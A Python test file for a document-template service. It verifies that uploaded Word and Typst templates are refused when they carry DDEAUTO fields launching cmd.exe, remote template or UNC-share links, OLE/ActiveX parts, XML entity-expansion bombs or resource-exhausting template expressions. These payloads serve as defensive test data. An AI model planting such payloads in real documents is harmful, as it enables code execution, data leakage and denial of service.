"""Templates of papers that would harm: the service, the officer who opens the paper, or whoever takes a draft for issued."""

import re
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document

from api.papers import apart, fields, inspecting, shelf, trying
from api.papers.apart import typeset_apart
from api.papers.tasks import DRAFT, Broken, Task
from domain.errors import Invalid
from domain.rules import papers
from tests.api.conftest import Town
from tests.api.problems import refused
from tests.api.test_paper_templates import URL, adding, shipped_docx, typ

ACCEPTANCE = papers.paper("acceptance", "petition")
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS, BODY, FOOTER = "word/_rels/document.xml.rels", "word/document.xml", "word/footer1.xml"


def parts(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """The shipped template with its parts changed."""
    with ZipFile(BytesIO(shelf.shipped("acceptance", "docx"))) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    change(found)
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    return made.getvalue()


def replacing(part: str, old: str, new: str) -> bytes:
    """The shipped template with the first of something in a part replaced."""

    def change(found: dict[str, bytes]) -> None:
        assert old.encode() in found[part]
        found[part] = found[part].replace(old.encode(), new.encode(), 1)

    return parts(change)


def related(attributes: str) -> bytes:
    """With one more relation."""
    return replacing(RELS, "</Relationships>", f'<Relationship Id="rId99" {attributes}/></Relationships>')


def body(xml: str) -> bytes:
    """With something before the first paragraph."""
    return replacing(BODY, "<w:body>", f"<w:body>{xml}")


def field(*instructions: str) -> str:
    """A field, its instruction in several runs."""
    told = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return f"<w:p>{begin}{told}{end}</w:p>"


def with_part(name: str, content: bytes = b"<x/>") -> bytes:
    """With one more part."""
    return parts(lambda found: found.update({name: content}))


def in_utf16(found: dict[str, bytes]) -> None:
    """The relations in another encoding, in which no search for bytes finds anything."""
    text = found[RELS].decode().split("?>", 1)[-1]
    more = (
        f'<Relationship Id="r9" Type="{RELATION}attachedTemplate" Target="http://x/a" TargetMode="External"/>'
    )
    told = text.replace("</Relationships>", f"{more}</Relationships>")
    found[RELS] = f'<?xml version="1.0" encoding="UTF-16"?>{told}'.encode("utf-16")


TEMPLATE = f'Type="{RELATION}attachedTemplate" Target="http://example.org/a.dotm"'
REACHING: dict[str, bytes] = {
    "a remote template": related(f'{TEMPLATE} TargetMode="External"'),
    "in single quotes": related(f"{TEMPLATE} TargetMode='External'"),
    "with spaces": related(f'{TEMPLATE} TargetMode = "External"'),
    "spelled in entities": related(f'{TEMPLATE} TargetMode="Extern&#97;l"'),
    "in UTF-16": parts(in_utf16),
    "said to be inside": related(f'Type="{RELATION}image" Target="http://example.org/a.png"'),
    "a picture elsewhere": related(f'Type="{RELATION}image" Target="file:///a.png" TargetMode="External"'),
    "a share": related(f'Type="{RELATION}hyperlink" Target="\\\\evil\\a" TargetMode="External"'),
    "an object": related(f'Type="{RELATION}oleObject" Target="media/a.xml"'),
    "a chunk": body('<w:altChunk xmlns:r="urn:r" r:id="rId99"/>'),
    "a control": body("<w:p><w:r><w:control/></w:r></w:p>"),
    "an object in the text": body("<w:p><w:r><w:object/></w:r></w:p>"),
    "a picture by address": body('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:v" src="http://x/a"/></w:pict></w:r></w:p>'),
    "DDE": body(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")),
    "in pieces": body(field("DD", "EAU", "TO c:\\\\cmd.exe")),
    "a simple one": body('<w:p><w:fldSimple w:instr=" dde cmd a "/></w:p>'),
    "a picture by field": body(field('INCLUDEPICTURE "http://example.org/a.png" \\d')),
    "a text by field": body(field('INCLUDETEXT "c:\\\\secret.docx"')),
    "a link": body(field("LINK Excel.Sheet.8 c:\\\\a.xls")),
    "nested in another": body(field("PAGE").replace("PAGE</w:instrText></w:r>", "PAGE</w:instrText></w:r>" + field("QUOTE 68 68 69")[5:-6])),
    "behind a harmless one": body(field("PAGE DDEAUTO cmd")),
    "made by the template": body(field("{{ subject }}")),
    "in the footer": replacing(FOOTER, "PAGE", "DDEAUTO cmd a"),
    "ActiveX": with_part("word/activeX/activeX1.xml"),
    "embedded": with_part("word/embeddings/a.xml"),
    "a menu of its own": with_part("customUI/customUI.xml"),
    "markup under another name": replacing(
        "[Content_Types].xml", "</Types>",
        '<Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.header+xml"/></Types>',
    ),
}  # fmt: skip


@pytest.mark.parametrize("fault", REACHING)
def test_c6_what_reaches_out_of_a_template_is_refused(fault: str) -> None:
    with pytest.raises(Invalid) as raised:
        trying.must_print(ACCEPTANCE, "docx", REACHING[fault])
    assert raised.value.code == "template.reaches_out"


HARMLESS: dict[str, bytes] = {
    "the page of how many": body(field(" PAGE ", " \\* MERGEFORMAT ") + field("NUMPAGES \\* Arabic")),
    "the day": body(
        field(' DATE \\@ "yyyy年M月d日" ') + '<w:p><w:fldSimple w:instr=" SECTIONPAGES "/></w:p>'
    ),
    "a link to a page": related(
        f'Type="{RELATION}hyperlink" Target="https://www.gjxfj.gov.cn/" TargetMode="External"'
    ),
}


@pytest.mark.parametrize("kind", HARMLESS)
def test_c6_what_any_letter_has_is_taken(kind: str) -> None:
    trying.must_print(ACCEPTANCE, "docx", HARMLESS[kind])


ENTITIES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
NOT_OPENED: dict[str, bytes] = {
    "nested entities": parts(
        lambda found: found.update({BODY: re.sub(rb"<\?xml[^>]*>", ENTITIES.encode(), found[BODY], count=1)})
    ),
    "used": parts(
        lambda found: found.update(
            {
                BODY: re.sub(rb"<\?xml[^>]*>", ENTITIES.encode(), found[BODY], count=1).replace(
                    b"<w:body>", b"<w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p>"
                )
            }
        )
    ),
    "no XML": with_part("word/more.xml", b"<x>"),
    "no XML in its main part": parts(lambda found: found.update({BODY: b"<w:document"})),
}


@pytest.mark.parametrize("fault", NOT_OPENED)
def test_c6_a_document_that_is_none_is_refused(town: Town, fault: str) -> None:
    answer = town.walker.as_("office-head").put(f"{URL}.docx", content=NOT_OPENED[fault])
    refused(answer, 422, "template.not_docx")


SWELLING: dict[str, tuple[str, str]] = {
    "much of little": ("{{ 'a' * 3000000000 }}", "不能使用运算符“*”"),
    "a power": ("{{ (3**6000000) % 7 }}", "不能使用运算符"),
    "a power in a condition": ("{% if 9**9**9 %}a{% endif %}", "不能使用运算符“**”"),
    "a format": ("{{ '%02000000000d' % 1 }}", "不能使用运算符“%”"),
    "room": ("{{ 'a'.ljust(9000000000) }}", "耗时过长或者占用内存过多"),
    "a long range": ("{{ range(100000000) | list }}", "模板不能使用"),
    "markup": ("{{ subject | safe }}", "标记有误"),
    "markup in a block": ("{% autoescape false %}{{ subject }}{% endautoescape %}", "autoescape"),
}


@pytest.mark.parametrize("fault", SWELLING)
def test_c6_what_makes_much_of_little_is_refused(town: Town, fault: str) -> None:
    text, said = SWELLING[fault]
    answer = refused(
        town.walker.as_("office-head").put(f"{URL}.docx", content=adding(text)), 422, "template.broken"
    )
    assert said in answer["detail"]


NOT_PRINTED: dict[str, tuple[str, bytes, str]] = {
    "only in a comment": ("typ", typ("\n/* data.number */", "#align(right, data.number)", ""), "number"),
    "only in a string": ("typ", typ('\n#let a = "data.number"', "#align(right, data.number)", ""), "number"),
    "only asked for": ("typ", typ('\n#if data.number == "" []', "#align(right, data.number)", ""), "number"),
    "hidden": ("typ", typ("", "#align(right, data.number)", "#hide(data.number)"), "number"),
    "only asked for in Word": (
        "docx", replacing(BODY, "{{ number }}", "{% if number %}{% endif %}"), "number"
    ),
    "a comment in Word": ("docx", replacing(BODY, "{{ number }}", "{# number #}"), "number"),
    "hidden in Word": (
        "docx",
        shipped_docx(lambda document: setattr(document.paragraphs[1].runs[0].font, "hidden", True)),
        "number",
    ),
}  # fmt: skip


@pytest.mark.parametrize("fault", NOT_PRINTED)
def test_c6_what_a_paper_must_say_is_looked_for_in_print(fault: str) -> None:
    form, content, name = NOT_PRINTED[fault]
    with pytest.raises(Invalid) as raised:
        trying.must_print(ACCEPTANCE, form, content)
    assert f"缺少必备的字段“{name}”" in raised.value.message


def test_c6_a_comment_in_a_string_hides_no_word() -> None:
    with pytest.raises(Invalid) as raised:
        trying.must_print(ACCEPTANCE, "typ", typ('\n#let a = "//"; #eval("1")\n'))
    assert "不能使用“eval”" in raised.value.message


def test_c6_no_template_takes_the_mark_off_a_draft(tmp_path: Path) -> None:
    """Whatever it says of its pages, and whatever it lays over them."""
    cover = (
        "\n#set page(background: none, foreground: none, header: none)\n#pagebreak()\n尾页"
        "#place(top + left, dx: -60mm, dy: -60mm, rect(width: 400mm, height: 500mm, fill: white))\n"
    )
    content = typ(cover)
    trying.must_print(ACCEPTANCE, "typ", content)
    made = trying.preview(ACCEPTANCE, "typ", content, apart=True)
    plain = typeset_apart(Task("typ", content, fields.sample(ACCEPTANCE), trying.SAMPLE_DAY, draft=False))
    assert len(re.findall(rb"/Type\s*/Page\b", made)) == len(re.findall(rb"/Type\s*/Page\b", plain)) == 2
    signs = [inspecting.signs(one) for one in (made, plain)]
    assert [set(DRAFT) - {"（", "）", "，"} <= one for one in signs] == [True, False]


def test_c6_a_word_draft_is_marked_first_and_on_every_page() -> None:
    def tabled(document: Any) -> None:
        """All its text in a table; a first page with a header of its own, in which there is but a table."""
        table = document.add_table(1, 1)
        for paragraph in list(document.paragraphs):
            table.cell(0, 0)._tc.append(paragraph._p)
        document.sections[0].different_first_page_header_footer = True
        header = document.sections[0].first_page_header
        header.is_linked_to_previous = False
        header.add_table(1, 1, document.sections[0].page_width)
        header._element.remove(header.paragraphs[0]._p)

    content = shipped_docx(tabled)
    trying.must_print(ACCEPTANCE, "docx", content)
    task = Task("docx", content, trying.bare(ACCEPTANCE), trying.SAMPLE_DAY, draft=True)
    made = Document(BytesIO(typeset_apart(task)))
    section = made.sections[0]
    first = [made, section.header, section.first_page_header, section.even_page_header]
    assert [one.paragraphs[0].text for one in first] == [DRAFT] * 4
    assert made.element.body[0] is made.paragraphs[0]._p


def test_c6_a_stored_template_that_prints_no_draft_does_not_pass() -> None:
    """A date that isn't there yet: the trial prints the barest draft, too."""
    with pytest.raises(Invalid) as raised:
        trying.must_print(ACCEPTANCE, "typ", typ('\n#data.due_on.split("年").at(1)\n'))
    assert "排版有误" in raised.value.message


def test_a_crash_is_told_apart_from_time_and_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    task = Task("docx", b"", {}, trying.SAMPLE_DAY, draft=False)
    with pytest.raises(Broken, match="意外中止"):
        typeset_apart(task)
    monkeypatch.setattr(apart, "SECONDS", 0.001)
    with pytest.raises(Broken, match="耗时过长"):
        typeset_apart(task)


def test_c6_every_shipped_template_passes_the_trial() -> None:
    for paper in papers.papers():
        for form in papers.FORMS:
            inspecting.must_do(trying.trial(paper, form, shelf.shipped(paper.code, form)))


def test_c6_a_paper_from_a_harmful_template_kept_earlier_is_not_handed_out() -> None:
    """What is printed is looked at as well as what is uploaded."""
    harmful = REACHING["DDE"]
    with pytest.raises(Broken) as raised:
        typeset_apart(Task("docx", harmful, fields.sample(ACCEPTANCE), trying.SAMPLE_DAY, draft=False))
    assert raised.value.code == "template.reaches_out"
